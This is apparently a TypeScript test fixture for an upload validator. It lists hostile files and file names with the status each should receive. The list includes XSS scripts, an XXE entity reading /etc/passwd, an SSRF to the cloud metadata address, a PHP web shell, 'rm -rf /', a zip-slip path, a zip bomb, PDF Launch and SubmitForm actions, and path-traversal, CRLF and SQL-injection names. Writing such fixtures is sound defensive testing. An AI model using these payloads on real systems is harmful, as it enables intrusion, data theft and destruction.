// Corpus of hostile files, generated in each run, with the expected result of each.
import { deflateSync } from 'node:zlib'
import type { FilePurpose } from '#shared/features/files/rules.ts'
import * as make from './make-files.ts'

export type HostileFile = {
  readonly what: string
  readonly purpose?: FilePurpose
  /** File name of the upload; default `photo.jpg`. */
  readonly name?: string
  readonly bytes: () => Promise<Buffer> | Buffer
  /** 201: stored after it was made harmless. */
  readonly status: 201 | 400 | 413 | 415 | 422
  /** Texts that no stored file may contain. */
  readonly gone?: readonly string[]
}

const { latin } = make
const script = '<script>alert(document.cookie)</script>'
const html = `<!doctype html><html><body>${script}</body></html>`
const svg = (inside: string): Buffer =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${inside}</svg>`)
const entities = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>`
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE', '!$H+H*'].join('')
const php = '<?php system($_GET["c"]); ?>'
const megabyte = 1024 * 1024

const refused = (what: string, bytes: HostileFile['bytes'], rest: Partial<HostileFile> = {}): HostileFile => ({
  what,
  bytes,
  status: 415,
  ...rest,
})
const accepted = (what: string, bytes: HostileFile['bytes'], rest: Partial<HostileFile> = {}): HostileFile => ({
  what,
  bytes,
  status: 201,
  ...rest,
})
const joined = async (...parts: (Buffer | Promise<Buffer>)[]): Promise<Buffer> =>
  Buffer.concat(await Promise.all(parts))

const otherKinds: readonly HostileFile[] = [
  refused('HTML named .jpg', () => latin(html)),
  refused('HTML after spaces', () => latin(`\n\n   ${html}`)),
  refused('a script', () => latin('alert(1)'), { name: 'photo.js' }),
  refused('plain text named .pdf', () => latin('just words'), { purpose: 'document', name: 'letter.pdf' }),
  refused('SVG with a script', () => svg(script), { name: 'logo.svg' }),
  refused('SVG with foreignObject', () => svg(`<foreignObject>${html}</foreignObject>`)),
  refused('SVG with an external entity', () => latin(entities)),
  refused('SVG that loads from elsewhere', () => svg('<image href="http://169.254.169.254/latest/meta-data"/>')),
  refused('SVG as a document', () => svg(script), { purpose: 'document' }),
  refused('the virus test file', () => latin(eicar), { name: 'eicar.com' }),
  refused('the virus test file as a document', () => latin(eicar), { purpose: 'document', name: 'eicar.pdf' }),
  refused('PHP', () => latin(php), { name: 'shell.php' }),
  refused('PHP with a double ending', () => latin(php), { name: 'shell.php.jpg' }),
  refused('a program of Linux', () => joined(latin('\x7FELF\x02\x01\x01'), Buffer.alloc(200))),
  refused('a program of Windows', () => joined(latin('MZ\x90\0'), Buffer.alloc(200)), { name: 'photo.jpg.exe' }),
  refused('a shell script', () => latin('#!/bin/sh\nrm -rf /\n')),
  refused('a ZIP', () => make.zipOf('photo.jpg', latin('x'))),
  refused('a ZIP that climbs out', () => make.zipOf('../../../../etc/cron.d/evil', latin('x')), {
    purpose: 'document',
  }),
  refused('a ZIP in a ZIP', () => make.zipOf('inner.zip', make.zipOf('x', latin('x'))), { purpose: 'document' }),
  refused('a ZIP bomb', () => make.zipOf('bomb', deflateSync(Buffer.alloc(40 * megabyte))), { purpose: 'document' }),
  refused('a Word document', () => make.zipOf('word/document.xml', latin('<w/>')), { purpose: 'document' }),
  refused('GZIP', () => joined(latin('\x1F\x8B\x08'), Buffer.alloc(64))),
  refused('TIFF', make.tiff, { name: 'scan.tiff' }),
  refused('TIFF named .jpg', make.tiff),
  refused('BMP', () => joined(latin('BM'), Buffer.alloc(200))),
  refused('ICO', () => joined(Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(200))),
  refused('VIPS', () => joined(Buffer.from('b6a6f208', 'hex'), Buffer.alloc(200))),
  refused('PostScript', () => latin('%!PS-Adobe-3.0\n(evil) run\n')),
  refused('a film', () => joined(Buffer.from([0, 0, 0, 24]), latin('ftypisom'), Buffer.alloc(200))),
  refused('HEIC', () => joined(Buffer.from([0, 0, 0, 24]), latin('ftypheic\0\0\0\0mif1heic'), Buffer.alloc(200))),
  refused('sound in RIFF', () => joined(latin('RIFF\x24\0\0\0WAVEfmt '), Buffer.alloc(100))),
  refused('GIF', make.gif, { name: 'photo.gif' }),
  refused('GIF with 5,000 frames', () => make.animated('gif', 5_000)),
  refused('GIF that is a script too', () => joined(latin('GIF89a/*'), Buffer.alloc(20), latin('*/=1;alert(1)'))),
  refused('a PDF where a picture is wanted', () => make.pdfOf()),
]

const pictures: readonly HostileFile[] = [
  accepted('JPEG named .png', () => make.jpeg(), { name: 'photo.png' }),
  accepted('JPEG named .php', () => make.jpeg(), { name: 'photo.jpg.php' }),
  accepted('JPEG with PHP behind it', () => joined(make.jpeg(), latin(php)), { gone: ['<?php'] }),
  accepted('JPEG with PHP in a comment', async () => make.withSegment(await make.jpeg(), 0xfe, latin(php)), {
    gone: ['<?php'],
  }),
  accepted('JPEG with a ZIP behind it', () => joined(make.jpeg(), make.zipOf('x.html', latin(html))), {
    gone: ['PK\x03'],
  }),
  accepted('JPEG with the place where it was taken', make.jpegWithPlace, { gone: ['Exif', 'Secret Owner', 'GPS'] }),
  accepted(
    'PNG with HTML in a text',
    () => make.pngOf({ width: 64, height: 64, before: [make.chunk('tEXt', latin(`Comment\0${html}`))] }),
    { gone: ['<script', 'Comment'] },
  ),
  accepted('PNG with a page behind it', () => joined(make.png(), latin(html)), { gone: ['<script'] }),
  accepted('WebP with 5,000 frames', () => make.animated('webp', 5_000)),
  accepted('JPEG with a colour profile of nonsense', async () =>
    make.withSegment(await make.jpeg(), 0xe2, joinedNow(latin('ICC_PROFILE\0\x01\x01'), Buffer.alloc(4_000, 0x41))),
  ),
  accepted('PNG with a text that swells to 200 MB', () =>
    make.pngOf({ width: 64, height: 64, before: [make.swollenChunk('zTXt', 200)] }),
  ),
  accepted('PNG with a colour profile that swells to 200 MB', () =>
    make.pngOf({ width: 64, height: 64, before: [make.swollenChunk('iCCP', 200)] }),
  ),
  accepted('a strip of a million pixels', () => make.pngOf({ width: 1_000_000, height: 1 })),
  accepted('a strip of a million pixels upright', () => make.pngOf({ width: 1, height: 1_000_000 })),
  accepted('exactly as many pixels as are allowed', () => make.pngOf({ width: 10_000, height: 5_000 })),
  accepted('a single pixel', () => make.pngOf({ width: 1, height: 1 })),
  accepted('AVIF', () => make.avif(), { name: 'photo.avif' }),
  refused('APNG', () =>
    make.pngOf({ width: 64, height: 64, before: [make.chunk('acTL', Buffer.from([0, 0, 19, 136, 0, 0, 0, 0]))] }),
  ),
  refused('one row too many', () => make.pngOf({ width: 10_000, height: 5_001 }), { status: 413 }),
  refused('PNG of 16,000 x 16,000', () => make.pngOf({ width: 16_000, height: 16_000 }), { status: 413 }),
  refused('JPEG that says it has 65,000 x 65,000', async () => make.withSides(await make.jpeg(), 65_000, 65_000), {
    status: 413,
  }),
  refused(
    'PNG that says it has 2 thousand million sides',
    () => make.pngOf({ width: 2_000_000_000, height: 2, pixels: deflateSync(Buffer.alloc(10)) }),
    { status: 422 },
  ),
  refused('PNG without sides', () => make.pngOf({ width: 0, height: 0, pixels: Buffer.alloc(0) }), { status: 422 }),
  refused(
    'PNG whose pixels stop',
    () => make.pngOf({ width: 640, height: 640, pixels: deflateSync(Buffer.alloc(500)), end: false }),
    { status: 422 },
  ),
  refused(
    'PNG with broken checksums',
    async () => {
      const bytes = await make.png()
      bytes.fill(0x55, 60, 90)
      return bytes
    },
    { status: 422 },
  ),
  refused('JPEG that breaks off', async () => (await make.jpeg()).subarray(0, 1_500), { status: 422 }),
  refused('the start of a JPEG alone', () => Buffer.from('ffd8ffe000104a464946', 'hex'), { status: 422 }),
  refused('noise behind the start of a JPEG', () => joined(Buffer.from('ffd8ffe0', 'hex'), Buffer.alloc(5_000, 0xa7)), {
    status: 422,
  }),
  refused('WebP that breaks off', async () => (await make.webp()).subarray(0, 60), { status: 422 }),
  refused('AVIF that breaks off', async () => (await make.avif()).subarray(0, 200), { status: 422 }),
  refused('nothing at all', () => Buffer.alloc(0), { status: 422 }),
]

const document = (what: string, bytes: HostileFile['bytes'], status: HostileFile['status'] = 415): HostileFile => ({
  what,
  bytes,
  status,
  purpose: 'document',
  name: 'certificate.pdf',
})

const documents: readonly HostileFile[] = [
  document('a good PDF', () => make.pdfOf(), 201),
  document('PDF behind HTML', () => joined(latin(html), make.pdfOf())),
  document('PDF behind a byte', () => joined(latin(' '), make.pdfOf())),
  document('PDF that begins as a page', () => {
    const text = make.pdfOf().toString('latin1')
    return latin(text.replace('\n', `\n%${html}\n`))
  }),
  document('PDF with a page behind it', () => joined(make.pdfOf(), latin(html)), 422),
  document('PDF with a ZIP behind it', () => joined(make.pdfOf(), make.zipOf('x', Buffer.alloc(5_000))), 422),
  document('PDF that opens with a script', () =>
    make.pdfOf(['<< /S /JavaScript /JS (app.alert(1)) >>'], '/OpenAction 4 0 R'),
  ),
  document('PDF whose script hides its letters', () => make.pdfOf(['<< /S /J#61va#53cript /JS (app.alert(1)) >>'])),
  document('PDF with a script among packed objects', () =>
    make.pdfOf([make.packedObjects('4 0 << /S /JavaScript >>')]),
  ),
  document('PDF that starts a program', () => make.pdfOf(['<< /S /Launch /F (cmd.exe) >>'], '/OpenAction 4 0 R')),
  document('PDF that carries a file', () => make.pdfOf(['<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream'])),
  document('PDF that sends a form', () => make.pdfOf(['<< /S /SubmitForm /F (http://evil.example) >>'])),
  document('PDF with the virus test file', () => make.pdfOf([`(${eicar})`])),
  document('PDF whose packed objects swell', () => make.pdfOf([make.packedObjects(Buffer.alloc(64 * megabyte))]), 422),
  document(
    'PDF with many names that lead to one packed stream',
    () => make.pdfOf([...Array.from({ length: 200 }, () => '<< /Type /ObjStm >>'), make.packedObjects('4 0 << >>')]),
    201,
  ),
  document('PDF that breaks off', () => make.pdfOf().subarray(0, 200), 422),
  document('the start of a PDF alone', () => latin('%PDF-'), 422),
  document('PDF of version 9', () => latin(make.pdfOf().toString('latin1').replace('1.7', '9.9')), 422),
  document('a picture as a document', () => make.jpeg(), 201),
]

function joinedNow(...parts: Buffer[]): Buffer {
  return Buffer.concat(parts)
}

/** Names of uploads, and what is stored of them; null where the name is refused. */
export const hostileNames: readonly (readonly [given: string, accepted: string | null])[] = [
  ['../../../etc/passwd', 'passwd'],
  ['..\\..\\windows\\system32\\evil.jpg', 'evil.jpg'],
  ['/etc/cron.d/evil.jpg', 'evil.jpg'],
  ['....//....//x.jpg', 'x.jpg'],
  ['photo\0.php.jpg', null],
  ['photo\r\nSet-Cookie: a=b.jpg', 'photo Set-Cookie: a=b.jpg'],
  ['photo\u202Egpj.exe', 'photogpj.exe'],
  ['\u2066photo\u2069\u200F.jpg', 'photo.jpg'],
  [`${'a'.repeat(190)}.jpg`, `${'a'.repeat(116)}.jpg`],
  [`${'b'.repeat(300)}.jpg`, null],
  ['.htaccess', 'htaccess'],
  ['..', 'file'],
  ['"><img src=x onerror=alert(1)>.jpg', '"><img src=x onerror=alert(1)>.jpg'],
  ["'; drop table files; --.jpg", "'; drop table files; --.jpg"],
  ['بطاقة التسجيل.jpg', 'بطاقة التسجيل.jpg'],
  ['   ', null],
]

export const hostileFiles: readonly HostileFile[] = [...otherKinds, ...pictures, ...documents]
